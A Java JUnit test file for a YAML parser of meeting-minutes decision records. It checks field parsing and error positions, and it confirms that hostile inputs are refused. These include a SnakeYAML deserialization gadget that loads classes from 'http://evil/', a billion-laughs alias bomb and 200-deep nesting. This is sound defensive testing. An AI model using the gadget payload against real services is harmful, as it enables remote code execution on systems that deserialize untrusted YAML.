package io.decisionlog.minutes.parse;

import io.decisionlog.events.DecisionMinutes;
import io.decisionlog.events.MinutesError;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;

import static org.assertj.core.api.Assertions.assertThat;

/** The parser and validator on good files and on every bad input of the issue, with positions asserted. */
class MinutesParserTest {
    private final MinutesParser parser = MinutesParser.defaults();

    static final String GOOD = """
            meeting: Weekly architecture sync
            date: 2024-04-10
            attendees: [li.wei, zhang.san, wang.wu]
            decisions:
              - id: D-2024-087
                title: Gray-release the downgrade switch
                owner: li.wei                 # who signs the decision off
                status: accepted
                topic: payment callback retries
                context: P0 alerts from the payment callback path, 23 a day
                decision: enable the downgrade switch for 5% of traffic, then 100% after a week
                rationale: keeps checkout up while the callback handler is rewritten
                supersedes: [D-2023-011]
                commits: [a9f3c1e, acme/payments@0123456789abcdef0123456789abcdef01234567]
              - id: D-2024-088
                title: Second decision
                decision: do the second thing
                attendees: [li.wei]
                date: 2024-04-11
            """;

    private ParsedMinutes parse(String yaml) {
        return parser.parse(yaml.getBytes(StandardCharsets.UTF_8), "acme/minutes", "minutes/2024/04-10.yaml");
    }

    @Test
    void shouldReadEveryFieldOfTheDesignExample() {
        ParsedMinutes parsed = parse(GOOD);

        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.warnings()).isEmpty();
        assertThat(parsed.ids()).containsExactly("D-2024-087", "D-2024-088");
        DecisionMinutes first = parsed.decisions().get(0).minutes();
        assertThat(first.title()).isEqualTo("Gray-release the downgrade switch");
        assertThat(first.status()).isEqualTo("accepted");
        assertThat(first.owner()).isEqualTo("li.wei");
        assertThat(first.date()).isEqualTo(LocalDate.of(2024, 4, 10));
        assertThat(first.attendees()).containsExactly("li.wei", "zhang.san", "wang.wu");
        assertThat(first.supersedes()).containsExactly("D-2023-011");
        assertThat(first.commits()).containsExactly("a9f3c1e", "acme/payments@0123456789abcdef0123456789abcdef01234567");
        assertThat(first.meeting().title()).isEqualTo("Weekly architecture sync");
        assertThat(first.meeting().date()).isEqualTo(LocalDate.of(2024, 4, 10));
        assertThat(first.meeting().sourceRepo()).isEqualTo("acme/minutes");
        assertThat(first.meeting().path()).isEqualTo("minutes/2024/04-10.yaml");
        DecisionMinutes second = parsed.decisions().get(1).minutes();
        assertThat(second.attendees()).containsExactly("li.wei");
        assertThat(second.date()).isEqualTo(LocalDate.of(2024, 4, 11));
        assertThat(parsed.decisions().get(1).line()).isEqualTo(15);
    }

    @Test
    void shouldReadASingleDecisionAtTheTopLevel() {
        ParsedMinutes parsed = parse("""
                meeting: Ad-hoc call
                date: 2024-05-02
                attendees: [li.wei]
                decision_id: ADR-2025-0012
                title: Use PostgreSQL everywhere
                status: proposed
                decision: one database kind
                """);

        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.ids()).containsExactly("ADR-2025-0012");
        DecisionMinutes only = parsed.decisions().get(0).minutes();
        assertThat(only.date()).isEqualTo(LocalDate.of(2024, 5, 2));
        assertThat(only.attendees()).containsExactly("li.wei");
        assertThat(only.meeting().title()).isEqualTo("Ad-hoc call");
    }

    @Test
    void shouldWarnAboutUnknownFieldsWithoutRejecting() {
        ParsedMinutes parsed = parse("""
                meeting: m
                location: room 4
                decisions:
                  - id: D-2024-001
                    title: t
                    decision: d
                    votes: 5
                """);

        assertThat(parsed.errors()).isEmpty();
        assertThat(parsed.warnings()).containsExactly(
                new MinutesError("unknown field 'location' is ignored", 2, 1),
                new MinutesError("unknown field 'votes' is ignored", 7, 5));
    }

    @Test
    void shouldRefuseAGlobalTagNamingAClass() {
        ParsedMinutes parsed = parse("""
                meeting: m
                decisions:
                  - id: D-2024-001
                    title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil/"]]]]
                    decision: d
                """);

        assertThat(parsed.valid()).isFalse();
        assertThat(parsed.errors().get(0)).isEqualTo(new MinutesError(
                "Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager", 4, 12));
        assertThat(parsed.decisions()).isEmpty();
    }

    @Test
    void shouldStopABillionLaughsAtTheAliasLimitInsteadOfExpandingIt() {
        // where the error is shows where parsing stopped, at the 51st alias: no stopwatch needed
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            char prev = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [")
                    .append(String.join(",", java.util.Collections.nCopies(9, "*" + prev))).append("]\n");
        }

        ParsedMinutes parsed = parse(bomb.toString());

        assertThat(parsed.errors()).singleElement().satisfies(error -> {
            assertThat(error.message()).contains("Number of aliases for non-scalar nodes exceeds the specified max=50");
            assertThat(error.line()).isEqualTo(7);
            // the 51st alias: five lines of nine, then the sixth '*f' on line 7
            assertThat(error.column()).isEqualTo(23);
        });
    }

    @Test
    void shouldRefuseNesting200Deep() {
        String deep = "a: " + "[".repeat(200) + "]".repeat(200) + "\n";

        ParsedMinutes parsed = parse(deep);

        assertThat(parsed.errors()).singleElement().satisfies(error -> {
            assertThat(error.message()).contains("Nesting Depth exceeded max 20");
            assertThat(error.line()).isEqualTo(1);
            // the root mapping is level 1, so the 20th '[' (column 4 + 19) is level 21
            assertThat(error.column()).isEqualTo(23);
        });
    }

    @Test
    void shouldRefuseA4MiBFileBeforeDecodingIt() {
        byte[] big = ("meeting: m\n# " + "x".repeat(4 * 1024 * 1024) + "\n").getBytes(StandardCharsets.UTF_8);

        ParsedMinutes parsed = parser.parse(big, "acme/minutes", "minutes/big.yaml");

        assertThat(parsed.errors()).containsExactly(new MinutesError("the file is " + big.length
                + " bytes; minutes files may be at most 262144 bytes (split the meeting into several files)", 0, 0));
    }

    @Test
    void shouldPointAtTheFirstByteThatIsNotUtf8() {
        byte[] bytes = "meeting: caf\u00e9\ndecisions:\n  - id: D-2024-001\n    title: X\n"
                .getBytes(StandardCharsets.UTF_8);
        byte[] broken = java.util.Arrays.copyOf(bytes, bytes.length + 3);
        System.arraycopy(new byte[] {'a', (byte) 0xC3, '('}, 0, broken, bytes.length, 3);

        ParsedMinutes parsed = parser.parse(broken, "acme/minutes", "minutes/bad.yaml");

        assertThat(parsed.errors()).containsExactly(new MinutesError(
                "the file is not valid UTF-8: byte 0xC3 at offset " + (bytes.length + 1)
                        + " cannot start or continue a character", 5, 2));
    }

    @Test
    void shouldRefuseADuplicatedKeyAtItsSecondOccurrence() {
        ParsedMinutes parsed = parse("""
                meeting: m
                decisions:
                  - id: D-2024-001
                    title: first
                    decision: d
                    title: second
                """);

        assertThat(parsed.errors()).containsExactly(new MinutesError("duplicate key 'title' (first at line 4)", 6, 5));
    }

    @Test
    void shouldReportBadIndentationOnTheLineWhereItIs() {
        ParsedMinutes parsed = parse("""
                meeting: m
                decisions:
                  - id: D-2024-001
                    title: t
                   decision: d
                """);

        assertThat(parsed.errors()).singleElement().satisfies(error -> {
            assertThat(error.message()).contains("expected <block end>");
            assertThat(error.line()).isEqualTo(5);
            assertThat(error.column()).isEqualTo(4);
        });
    }

    @Test
    void shouldRefuseAnUnknownStatusAtItsValue() {
        ParsedMinutes parsed = parse("""
                meeting: m
                decisions:
                  - id: D-2024-001
                    title: t
                    status: approved
                    decision: d
                """);

        assertThat(parsed.errors()).containsExactly(new MinutesError(
                "unknown status 'approved'; expected one of proposed, accepted, rejected, superseded, deprecated", 5, 13));
    }

    @Test
    void shouldRefuseADecisionWithoutAnId() {
        ParsedMinutes parsed = parse("""
                meeting: m
                decisions:
                  - title: t
                    decision: d
                """);

        assertThat(parsed.errors()).containsExactly(new MinutesError(
                "the decision has no id: add 'id: D-2024-001' (ids match [A-Z][A-Z0-9]*-\\d{4}-\\d{3,})", 3, 5));
        assertThat(parsed.decisions()).isEmpty();
    }

    @Test
    void shouldReportEveryValidationErrorOfAFileAtOnce() {
        ParsedMinutes parsed = parse("""
                meeting: m
                date: 10/04/2024
                decisions:
                  - id: d-2024-1
                    decision: d
                    commits: [xyz, a9f3c1e]
                    supersedes: [later]
                  - id: D-2024-002
                    title: t
                """);

        assertThat(parsed.errors()).extracting(MinutesError::line, MinutesError::column).containsExactly(
                org.assertj.core.groups.Tuple.tuple(2, 7),
                org.assertj.core.groups.Tuple.tuple(4, 5),
                org.assertj.core.groups.Tuple.tuple(4, 9),
                org.assertj.core.groups.Tuple.tuple(6, 15),
                org.assertj.core.groups.Tuple.tuple(7, 18),
                org.assertj.core.groups.Tuple.tuple(8, 5));
        assertThat(parsed.errors().get(0).message()).contains("'10/04/2024' is not an ISO date");
        assertThat(parsed.errors().get(1).message()).isEqualTo("the decision has no title: 'title:' is required");
        assertThat(parsed.errors().get(2).message()).startsWith("'d-2024-1' is not a decision id");
        assertThat(parsed.errors().get(3).message()).startsWith("'xyz' in commits is not a commit");
        assertThat(parsed.errors().get(4).message()).startsWith("'later' in supersedes is not a decision id");
        assertThat(parsed.errors().get(5).message()).isEqualTo("the decision has no decision: 'decision:' is required");
    }

    @Test
    void shouldReportTheSameIdTwiceInOneFileOnBothEntries() {
        ParsedMinutes parsed = parse("""
                decisions:
                  - id: D-2024-001
                    title: a
                    decision: d
                  - id: D-2024-001
                    title: b
                    decision: d
                """);

        assertThat(parsed.errors()).containsExactly(
                new MinutesError("decision id D-2024-001 is defined 2 times in this file (lines 2, 5)", 2, 9),
                new MinutesError("decision id D-2024-001 is defined 2 times in this file (lines 2, 5)", 5, 9));
    }

    @Test
    void shouldRefuseAnEmptyFileAndATopLevelList() {
        assertThat(parse("").errors()).extracting(MinutesError::line).containsExactly(1);
        assertThat(parse("- a\n- b\n").errors()).containsExactly(
                new MinutesError("the file must be a mapping (meeting:, date:, decisions: …), not a list", 1, 1));
    }

    @Test
    void shouldRefuseMergeKeysAndCustomTags() {
        ParsedMinutes parsed = parse("""
                base: &b {title: t, decision: d}
                decisions:
                  - <<: *b
                    id: D-2024-001
                    owner: !who li.wei
                """);

        assertThat(parsed.errors()).extracting(MinutesError::message)
                .anySatisfy(message -> assertThat(message).startsWith("the tag tag:yaml.org,2002:merge is not allowed"))
                .anySatisfy(message -> assertThat(message).startsWith("the tag !who is not allowed"));
    }
}
